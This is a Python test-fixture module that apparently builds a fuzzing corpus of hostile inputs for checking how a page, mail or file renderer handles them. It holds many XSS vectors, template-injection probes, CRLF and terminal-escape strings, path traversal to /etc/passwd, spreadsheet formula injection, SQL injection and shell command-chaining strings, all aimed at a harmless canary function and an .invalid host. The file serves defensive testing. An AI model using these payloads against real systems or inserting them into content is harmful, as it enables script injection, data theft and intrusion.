"""Texts that an attacker would put where a page, a mail or a file may show them: each another way to run or to fetch.

`canary()` is a function that the browser of the tests defines; http://canary.invalid an address that must never be asked for.
"""

from __future__ import annotations

from typing import Final

MARK: Final = "canary"
_RUN, _URL = "canary()", "http://canary.invalid/x"

_VECTORS: Final = (
    "<script>{c}</script>", "<ScRiPt>{c}</sCrIpT>", "<script src={u}></script>", "<script>{c}//",
    "<script\x0c>{c}</script\x0c>", "<script/x>{c}</script>", "<<script>{c}//<</script>",
    "<scr<script>ipt>{c}</scr</script>ipt>", "<script type=module>{c}</script>", "<img src=x onerror={c}>", "<img src={u}>",
    "<img srcset='{u} 1x'>", "<img/src=x/onerror={c}>", "<img src=x onerror\n={c}>", "<image src=x onerror={c}>",
    "<svg onload={c}>", "<svg/onload={c}>", "<svg><script>{c}</script></svg>", "<svg><script href={u} /></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>", "<svg><set onbegin={c} attributename=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href={u} /></svg>#x'>",
    "<svg><foreignObject><body onload={c}></foreignObject></svg>",
    "<svg><a xlink:href=javascript:{c}><text y=20>x</text></a></svg>", "<svg><image href={u}></svg>",
    "<svg><style>@import '{u}';</style></svg>", "<svg></p><style><a id='</style><img src=x onerror={c}>'>",
    "<body onload={c}>", "<body background={u}>", "<iframe src=javascript:{c}></iframe>", "<iframe src={u}></iframe>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;parent.{c}&lt;/script&gt;></iframe>", "<object data={u}></object>",
    "<object data=javascript:{c}></object>", "<embed src={u}>", "<embed src=javascript:{c}>",
    "<link rel=stylesheet href={u}>", "<link rel=prefetch href={u}>", "<link rel=dns-prefetch href={u}>",
    "<style>@import url({u})</style>", "<style>*{{background:url({u})}}</style>", "<div style=background:url({u})>x</div>",
    "<div style='width:expression({c})'>x</div>", "<base href=http://canary.invalid/>",
    "<meta http-equiv=refresh content='0;url={u}'>", "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<a href=javascript:{c}>x</a>", "<a href='java\tscript:{c}'>x</a>", "<a href='&#106;avascript:{c}'>x</a>",
    "<a ping={u} href=/>x</a>", "<form action=javascript:{c}><button autofocus>x</button></form>",
    "<form action={u}><input name=x autofocus></form>", "<input autofocus onfocus={c}>", "<select autofocus onfocus={c}>",
    "<textarea autofocus onfocus={c}>", "<keygen autofocus onfocus={c}>", "<details open ontoggle={c}>",
    "<video src={u} onerror={c}></video>", "<video><source onerror={c}></video>", "<video poster={u}></video>",
    "<audio src={u} onerror={c}></audio>", "<marquee onstart={c}>x</marquee>", "<table background={u}>",
    "<isindex type=image src={u}>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={c}&gt;'>",
    "<math href=javascript:{c}>x</math>", "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<template><script>{c}</script></template>", "<x onclick={c} tabindex=1 autofocus onfocus={c}>x</x>",
    "<xss onmouseover={c} style=display:block>x</xss>", "<portal src={u}>", "<frameset onload={c}>", "<bgsound src={u}>",
    "<applet code={u}>",
)  # fmt: skip
_BREAKS: Final = (
    "", '">', "'>", "</title>", "</textarea>", "-->", "]]>", "</script>",
)  # fmt: skip
"""what first ends the place where the text is put"""
_ATTRIBUTES: Final = tuple(
    f"{quote} {event}={_RUN} {quote}" for quote in ('"', "'", "`", "") for event in
    ("onmouseover", "onfocus", "onload", "onerror", "autofocus onfocus",
     "style=animation-name:x onanimationstart", "onpointerenter")
)  # fmt: skip
_SCRIPTS: Final = (
    f"';{_RUN};'", f'";{_RUN};"', f"\\';{_RUN};//", f"`${{{_RUN}}}`", f"${{{_RUN}}}", f"'-{_RUN}-'", f'"-{_RUN}-"',
    f"\u2028{_RUN}//", f"*/{_RUN}/*", f"</script><script>{_RUN}", f"]}};{_RUN};//", f"{_RUN}",
)  # fmt: skip
_TEMPLATES: Final = (
    "{{7*7}}", "{{config}}", "{% raw %}", "{%import os%}", "{{''.__class__.__mro__[1].__subclasses__()}}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "{asked}", "%(x)s", "%s%n%x", "{{constructor.constructor('canary()')()}}",
    "[[${7*7}]]", "{#", "{{", "}}", "{%",
)  # fmt: skip
_ADDRESSES: Final = (
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f" javascript:{_RUN}", f"java\tscript:{_RUN}", f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}", f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==", f"vbscript:{_RUN}", _URL, "//canary.invalid/x",
    "\\\\canary.invalid\\x", "https:canary.invalid", "http:/\\canary.invalid", "file:///etc/passwd", "blob:x",
    "/\\canary.invalid",
)  # fmt: skip
_MARKDOWN: Final = (
    f"[x]({_URL})", f"![x]({_URL})", f"[x](javascript:{_RUN})", f"![x](javascript:{_RUN})", f"<{_URL}>",
    f"<javascript:{_RUN}>", f"[x]: {_URL}\n[x]", f"[x](<javascript:{_RUN}>)", f"[x](java&#115;cript:{_RUN})",
    f"![x]({_URL} \"a\\\" onerror='{_RUN}'\")", f"`<img src=x onerror={_RUN}>`", f"```\n<img src=x onerror={_RUN}>\n```",
    f"| a |\n|---|\n| <img src={_URL}> |", f"\n\n<img src=x onerror={_RUN}>\n\n", f"# <b onclick={_RUN}>x", f"*[x]({_URL})*",
    f"~~{_URL}~~", f"www.canary.invalid {_URL}", f"[^1]: {_URL}", f"\\[x]({_URL})", f"[![x]({_URL})]({_URL})",
)  # fmt: skip
_LETTERS: Final = (
    "\x00", "a\x00<b>", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://canary.invalid\x1b\\x\x1b]8;;\x1b\\",
    "\x9b31m", "\x07\x08\x7f", "\r\nSet-Cookie: canary=1", "\r\n\r\n<script>canary()</script>", "a\rb", "\u202ecod.exe",
    "\u202d\u202e\u2066\u2067", "\u2066x\u2069", "\u200b\u200c\u200d\ufeff", "\u2028\u2029", "\ufffe\uffff",
    "\U000e0041\U000e007f", "e" + "\u0301" * 200, "\u0e49" * 60, "\ufdfd" * 50, "＜script＞canary()＜/script＞", "\u02bbimg",
    "\uff1cimg src=x onerror=canary()\uff1e", "ﾊﾝｶｸ\u3099", "x" * 4000, "長い" * 600, "\ud83d\udca9",
    "<\u0000script>canary()</script>", "<scri\u0000pt>canary()</script>", "<img src=x on\u0000error=canary()>",
    "\u3000<svg onload=canary()>", "&lt;script&gt;canary()&lt;/script&gt;", "&#60;script&#62;canary()&#60;/script&#62;",
    "\\x3cscript\\x3ecanary()\\x3c/script\\x3e", "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
    "+ADw-script+AD4-canary()+ADw-/script+AD4-", "%3Cscript%3Ecanary()%3C/script%3E", "%253Cscript%253Ecanary()",
    "=cmd|'/c calc'!A0", "@SUM(1+1)", "+1+1", "-1", "../../../../etc/passwd", "..\\..\\x", "CON", "' OR 1=1 --",
    "\"; DROP TABLE events; --", "$(canary)", "`canary`", "| canary", "; canary", "&& canary", "NaN", "null", "undefined",
    "constructor", "__proto__",
)  # fmt: skip

_CLEAN: Final = tuple(one.encode("utf-16", "surrogatepass").decode("utf-16") for one in _LETTERS)
PAYLOADS: Final = tuple(dict.fromkeys((
    *(before + vector.format(c=_RUN, u=_URL) for vector in _VECTORS for before in _BREAKS),
    *_ATTRIBUTES, *_SCRIPTS, *_TEMPLATES, *_ADDRESSES, *_MARKDOWN, *_CLEAN,
)))  # fmt: skip
BYTES: Final = (
    b"\xff\xfe<script>canary()</script>", b"\xc0\xbcscript\xc0\xbecanary()", b"\xe0\x80\xbcimg src=x onerror=canary()>",
    b"\xf8\x88\x80\x80\xbc", b"\xed\xa0\x80\xed\xb0\x80<svg onload=canary()>", b"\x80\x81<b>",
    b"\xc3(<img src=x onerror=canary()>", b"\xf0\x9f\x92<script>canary()</script>",
)  # fmt: skip
"""the same in bytes that are no UTF-8"""
